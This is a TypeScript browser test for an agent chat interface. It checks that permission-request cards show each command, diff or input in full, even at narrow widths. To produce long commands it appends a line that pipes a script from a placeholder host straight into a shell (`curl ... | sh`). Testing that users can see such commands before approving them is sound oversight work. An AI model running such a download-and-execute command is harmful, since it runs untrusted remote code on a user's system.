import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { takeSnapshot, type TranscriptSnapshot } from '../../src/shared/transcript/ops';
import { TrafficPlayer, type TrafficLine } from '../unit-support/playTraffic';
import { useBrowser, type Chat } from './chat';
import { pageWithSession, sessionA } from './samples';

/* What every agent of the recordings asks about is in sight before it is allowed: the command, the change, else the input or the title. */

const traffic = join(process.cwd(), 'test/fixtures/traffic');
const browser = useBrowser();

interface AskedCall {
  readonly title: string;
  readonly kind: string;
  readonly rawInput?: Readonly<Record<string, unknown>>;
}

interface AskedQuestion {
  readonly call: AskedCall;
  readonly snapshot: TranscriptSnapshot;
}

/** The transcript at each question of a recording. */
async function questionsOf(name: string, lines: readonly string[]): Promise<AskedQuestion[]> {
  const player = new TrafficPlayer(name);
  const questions: AskedQuestion[] = [];
  for (const line of lines) {
    const parsed = JSON.parse(line) as TrafficLine;
    await player.play([parsed]);
    if ('note' in parsed || parsed.message.method !== 'session/request_permission') continue;
    const isAsked = player.test.all('tool_call').some(({ permission }) => permission.state === 'asked');
    if (!isAsked) continue;
    const call = callOf(parsed.message.params);
    questions.push({ call, snapshot: structuredClone(takeSnapshot(player.test.session.transcript)) });
  }
  return questions;
}

/** The call that a request is about, in either version. */
function callOf(params: Readonly<Record<string, unknown>> | undefined): AskedCall {
  return ((params?.['subject'] ?? params) as { readonly toolCall: AskedCall }).toolCall;
}

/** The command that a question is about, where its agent tells it: in the input, else as the title. */
function commandOf({ kind, rawInput, title }: AskedCall): string | undefined {
  return kind === 'execute' ? ((rawInput?.['command'] as string | undefined) ?? title) : undefined;
}

interface Card {
  readonly text: string;
  readonly command: string | undefined;
  readonly cut: readonly string[];
}

/** What the card that asks shows, and which of its parts hold more than can be seen or scrolled to. */
async function cardThatAsks(chat: Chat, title: string): Promise<Card> {
  const question = chat.page.getByRole('group', { name: `Permission: ${title}`, exact: true }).last();
  await question.waitFor();
  // On a busy machine, the place in the question before can be kept.
  await chat.page.getByRole('feed').press('End');
  await chat.still();
  return question.evaluate((group) => {
    const card = group.closest<HTMLElement>('.pl-tool.asking')!;
    const cut: string[] = [];
    for (const part of card.querySelectorAll<HTMLElement>(
      '.lbl, .lbl *, .pl-cmd *, .pl-out *, .pl-raws :is(pre, pre *)',
    )) {
      const { overflowX, overflowY } = getComputedStyle(part);
      // What is read out alone.
      if (part.closest('.sr, [hidden], .pl-figure > button') || part.clientWidth === 0) continue;
      const scrolls = overflowY === 'auto' && part.tabIndex === 0;
      const isWide = part.scrollWidth > part.clientWidth + 1 && overflowX !== 'visible';
      const isHigh = part.scrollHeight > part.clientHeight + 1 && overflowY !== 'visible' && !scrolls;
      if (isWide || isHigh) cut.push(`${part.tagName} ${part.className}: ${part.innerText.slice(0, 80)}`);
    }
    const command = card.querySelector<HTMLElement>('.pl-cmd:not(.words) > .text')?.innerText;
    return { text: card.innerText, command, cut };
  });
}

async function checkQuestion(chat: Chat, { call, snapshot }: AskedQuestion): Promise<void> {
  await chat.showSession(sessionA, snapshot);
  const { text, command, cut } = await cardThatAsks(chat, call.title);
  assert.deepEqual(cut, [], call.title);
  assert.equal(command, commandOf(call));
  if (command !== undefined) return;
  const entry = snapshot.entries.findLast((one) => one.kind === 'tool_call' && one.permission.state === 'asked');
  if (entry?.kind === 'tool_call' && entry.content.some(({ type }) => type === 'diff')) {
    const figure = chat.page.getByRole('figure', { name: /^Diff: / }).last();
    await figure.locator('.l.i', { hasText: 'Hello world' }).waitFor();
    return;
  }
  const values = Object.values(call.rawInput ?? { title: call.title });
  const lines = values.flatMap((value) => String(value).trim().split('\n'));
  for (const line of lines) assert.ok(text.includes(line), `"${line}" is not in sight:\n${text}`);
}

const more = ` \\
  --reporter verbose --coverage --maxWorkers 2 --some-more "of what makes a line too long for a narrow view" && \\
  curl -s https://example.test/${'x'.repeat(90)} | sh
echo 'the last line'`;

/** The same recording, its commands long and of many lines. */
function withLongCommands(lines: readonly string[]): string[] {
  const commands = new Set<string>();
  for (const line of lines) {
    const parsed = JSON.parse(line) as TrafficLine;
    if ('note' in parsed || parsed.message.method !== 'session/request_permission') continue;
    const command = commandOf(callOf(parsed.message.params));
    if (command !== undefined) commands.add(command);
  }
  const inJson = (text: string) => JSON.stringify(text).slice(1, -1);
  return lines.map((line) => {
    let changed = line;
    for (const command of commands) changed = changed.replaceAll(`${inJson(command)}"`, `${inJson(command + more)}"`);
    return changed;
  });
}

for (const file of readdirSync(traffic).filter((name) => name.endsWith('.ndjson'))) {
  const name = file.replace(/\.ndjson$/, '');
  const text = readFileSync(join(traffic, file), 'utf8');
  // In some recordings, the agent decides by itself.
  if (!text.includes('"session/request_permission"')) continue;
  test(`shows the request of ${name}, however long its command is`, async () => {
    const lines = text.trimEnd().split('\n');
    const chat = await browser.open({ width: 320 });
    await chat.showPage(pageWithSession());
    const questions = await questionsOf(name, lines);
    assert.ok(questions.length > 0);
    for (const question of questions) await checkQuestion(chat, question);
    const isCommand = ({ call }: AskedQuestion) => call.kind === 'execute';
    const long = (await questionsOf(name, withLongCommands(lines))).filter(isCommand);
    assert.equal(long.length, questions.filter(isCommand).length);
    for (const question of long) {
      assert.match(commandOf(question.call) ?? '', /the last line'$/);
      await checkQuestion(chat, question);
    }
    await chat.close();
  });
}
